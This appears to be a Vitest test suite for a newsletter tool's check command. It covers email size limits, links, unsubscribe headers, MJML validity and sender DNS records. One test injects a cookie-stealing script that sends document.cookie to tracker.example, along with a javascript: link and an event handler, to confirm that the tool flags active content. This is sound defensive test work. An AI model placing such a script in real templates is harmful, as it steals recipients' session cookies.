import { cp, readFile, writeFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import dns2 from 'dns2';
import { afterEach, describe, expect, it } from 'vitest';
import { cli } from '../helpers/cli.js';
import { PROJECT_ROOT, fixture, item, weekOf } from '../helpers/fixture.js';
import { html, startHttpServer, status } from '../helpers/http.js';
import { LIVE_DOMAIN } from '../helpers/live-project.js';

const WEEK = '2024-W10';
// A newsletter ready to go live: no reserved example domain anywhere (those are errors).
const CONFIG = { postalAddress: '1 Example Way', from: { address: `news@${LIVE_DOMAIN}` }, unsubscribe: { url: `https://unsubscribe.${LIVE_DOMAIN}/u?token={token}` } };
const liveWeek = () => weekOf('2024-03-06', `www.${LIVE_DOMAIN}`);

async function checked(files: Record<string, string | null>, args: string[] = [], env: NodeJS.ProcessEnv = {}, edit?: (dir: string) => Promise<void>) {
  // A null file is left out of the week.
  const tree = Object.entries({ ...liveWeek(), 'watch-digest.config.json': JSON.stringify(CONFIG), ...files }).filter((entry): entry is [string, string] => entry[1] !== null);
  const dir = await fixture(Object.fromEntries(tree));
  if (edit) {
    expect((await cli(['compose', '--week', WEEK], dir)).code).toBe(0);
    await edit(dir);
  }
  const run = await cli(['check', '--week', WEEK, '--json', ...args], dir, env);
  return { run, report: JSON.parse(run.stdout || '{}') as { errors: number; warnings: number; findings: Array<{ level: string; rule: string; message: string }>; notes: string[] }, dir };
}

const rules = (report: { findings: Array<{ level: string; rule: string }> }) => report.findings.map((f) => `${f.level} ${f.rule}`);

describe('watch-digest check', () => {
  it('passes a good issue, composing it first when needed', async () => {
    const { run, report } = await checked({});
    expect(run.code).toBe(0);
    expect(report).toMatchObject({ errors: 0, warnings: 0 });
    expect(report.notes).toContain(`${WEEK} was not built yet: composed it first`);
    const dir = await fixture({ ...liveWeek(), 'watch-digest.config.json': JSON.stringify(CONFIG) });
    const plain = await cli(['check', '--week', WEEK], dir);
    expect(plain.stdout).toContain(`${WEEK}: 0 errors, 0 warnings`);
  });

  it('errors over the Gmail clipping size and warns close to it', async () => {
    const long = (kb: number) => Array.from({ length: kb }, (_, i) => `Paragraph ${i} ${'word '.repeat(190)}`).join('\n\n');
    const big = await checked({ 'digests/lead.md': item({ kind: 'lead', date: '2024-03-06', title: 'Big', dek: 'Dek.' }, long(110)) });
    expect(big.run.code).toBe(1);
    expect(rules(big.report)).toContain('error size');
    const near = await checked({ 'digests/lead.md': item({ kind: 'lead', date: '2024-03-06', title: 'Near', dek: 'Dek.' }, long(60)) });
    expect(near.run.code).toBe(0);
    expect(rules(near.report)).toContain('warning size');
  });

  it('warns about images without alt text, http: links, long subjects and preheaders, missing sections and postal address', async () => {
    const { run, report } = await checked({
      'digests/lead.md': item(
        { kind: 'lead', date: '2024-03-06', title: 'Lead', subject: 'S'.repeat(90), preheader: 'P'.repeat(160) },
        `See ![](https://www.${LIVE_DOMAIN}/chart.png) and [an old site](http://www.${LIVE_DOMAIN}/old).`,
      ),
      'digests/state.md': null,
      'digests/news/one.md': null,
      'digests/news/two.md': null,
      'watch-digest.config.json': JSON.stringify({ ...CONFIG, postalAddress: undefined }),
    });
    expect(run.code).toBe(0);
    expect(rules(report).sort()).toEqual(
      ['warning image-alt', 'warning link', 'warning news', 'warning postal-address', 'warning preheader-length', 'warning state-dept', 'warning subject-length'].sort(),
    );
    expect(report.findings.find((f) => f.rule === 'link')!.message).toBe(`insecure http: link http://www.${LIVE_DOMAIN}/old`);
  });

  // Five runs of the CLI: a generous limit for a busy machine.
  it('errors when the unsubscribe link is missing, the preheader is empty or issue.mjml is invalid', async () => {
    const noLink = await checked({}, [], {}, async (dir) => {
      await cp(path.join(PROJECT_ROOT, 'templates'), path.join(dir, 'templates'), { recursive: true });
      const footer = path.join(dir, 'templates', 'partials', 'footer.mjml');
      await writeFile(footer, (await readFile(footer, 'utf8')).replace('<a href="{{ placeholders.unsubscribeUrl }}">Unsubscribe</a>', ''));
      expect((await cli(['compose', '--week', WEEK], dir)).code).toBe(0);
    });
    expect(noLink.run.code).toBe(1);
    expect(rules(noLink.report)).toEqual(['error unsubscribe-link']);

    const broken = await checked({}, [], {}, async (dir) => {
      const manifestFile = path.join(dir, 'digests', WEEK, 'issue.json');
      const manifest = JSON.parse(await readFile(manifestFile, 'utf8'));
      await writeFile(manifestFile, JSON.stringify({ ...manifest, preheader: '' }));
      const mjmlFile = path.join(dir, 'digests', WEEK, 'issue.mjml');
      await writeFile(mjmlFile, (await readFile(mjmlFile, 'utf8')).replace('<mj-text', '<mj-text bogus="1"'));
    });
    expect(broken.run.code).toBe(1);
    expect(rules(broken.report).sort()).toEqual(['error mjml', 'error preheader']);
    // Five CLI runs: slow on a busy machine.
  }, 180_000);

  it('errors on active content a template emits: a script, an event handler, a javascript: link', async () => {
    const { run, report } = await checked({}, [], {}, async (dir) => {
      await cp(path.join(PROJECT_ROOT, 'templates'), path.join(dir, 'templates'), { recursive: true });
      const footer = path.join(dir, 'templates', 'partials', 'footer.mjml');
      const active = '<mj-raw><script>fetch("https://tracker.example/?" + document.cookie)</script></mj-raw>\n<mj-section><mj-column><mj-text><a href="javascript:void(0)" onmouseover="steal()">More</a></mj-text></mj-column></mj-section>\n';
      await writeFile(footer, active + (await readFile(footer, 'utf8')));
      expect((await cli(['compose', '--week', WEEK], dir)).code).toBe(0);
    });
    expect(run.code).toBe(1);
    expect(report.findings.filter((f) => f.rule === 'active-content').map((f) => f.message).sort()).toEqual([
      '<script> element: email cannot carry active content',
      'event handler onmouseover="steal()"',
      'script URL javascript:void(0)',
    ]);
  }, 120_000);

  it('errors on an unsubscribe URL that is not https', async () => {
    const { run, report } = await checked({ 'watch-digest.config.json': JSON.stringify({ ...CONFIG, unsubscribe: { url: `http://unsubscribe.${LIVE_DOMAIN}/u?t={token}` } }) });
    expect(run.code).toBe(1);
    expect(rules(report)).toContain('error unsubscribe-header');
  });

  it('with --links, reports broken links as errors', async () => {
    const server = await startHttpServer({ '/ok': html('<p>fine</p>'), '/gone': status(404) });
    const lead = item({ kind: 'lead', date: '2024-03-06', title: 'Lead', dek: 'Dek.' }, `[fine](${server.url('/ok')}) and [gone](${server.url('/gone')})`);
    const news = item({ kind: 'news', date: '2024-03-06' }, `A bullet citing [a source](${server.url('/ok')}).`);
    // Only links to the loopback server, so the test stays off the network. It speaks http:,
    // which the link rule flags as a warning; the broken link is the one error.
    const { run, report } = await checked({ 'digests/lead.md': lead, 'digests/news/one.md': news, 'digests/news/two.md': null, 'digests/related.md': null }, ['--links']);
    expect(run.code).toBe(1);
    const errors = report.findings.filter((f) => f.level === 'error');
    expect(errors.map((f) => f.message)).toEqual([`${server.url('/gone')} answers HTTP 404`]);
    expect(server.hits.get('/ok')).toBeGreaterThan(0);
  });
});

describe('watch-digest check --dns', () => {
  const servers: Array<{ close(): Promise<void> | void }> = [];
  afterEach(async () => {
    await Promise.all(servers.splice(0).map((s) => s.close()));
  });

  async function dnsServer(records: Record<string, string>): Promise<string> {
    const server = dns2.createServer({
      udp: true,
      handle: (request: any, send: (r: unknown) => void) => {
        const response = dns2.Packet.createResponseFromRequest(request);
        const [question] = request.questions;
        const data = records[question.name.toLowerCase()];
        if (data) response.answers.push({ name: question.name, type: dns2.Packet.TYPE.TXT, class: dns2.Packet.CLASS.IN, ttl: 60, data });
        else response.header.rcode = 3; // NXDOMAIN
        send(response);
      },
    });
    const listening = new Promise<AddressInfo>((resolve) => server.on('listening', (addresses: { udp: AddressInfo }) => resolve(addresses.udp)));
    server.listen({ udp: { port: 0, address: '127.0.0.1' } });
    servers.push(server);
    return `127.0.0.1:${(await listening).port}`;
  }

  it('reports a missing DMARC record and DKIM key, accepting SPF', async () => {
    const resolver = await dnsServer({ [LIVE_DOMAIN]: 'v=spf1 include:_spf.example.net -all' });
    const { run, report } = await checked({}, ['--dns'], { WATCH_DIGEST_DNS_SERVER: resolver, DKIM_SELECTOR: 'wd' });
    expect(run.code).toBe(0);
    expect(rules(report).sort()).toEqual(['warning dkim', 'warning dmarc']);
    const complete = await dnsServer({
      [LIVE_DOMAIN]: 'v=spf1 -all',
      [`_dmarc.${LIVE_DOMAIN}`]: 'v=DMARC1; p=quarantine',
      [`wd._domainkey.${LIVE_DOMAIN}`]: 'v=DKIM1; k=rsa; p=MIIBIjANBg',
    });
    const ok = await checked({}, ['--dns'], { WATCH_DIGEST_DNS_SERVER: complete, DKIM_SELECTOR: 'wd' });
    expect(ok.report.findings).toEqual([]);
  });

  it('skips the DNS checks with a note when DNS cannot be reached', async () => {
    const { run, report } = await checked({}, ['--dns'], { WATCH_DIGEST_DNS_SERVER: '127.0.0.1:9' });
    expect(run.code).toBe(0);
    expect(report.notes.some((n) => n.startsWith('sender DNS checks skipped'))).toBe(true);
  });
});
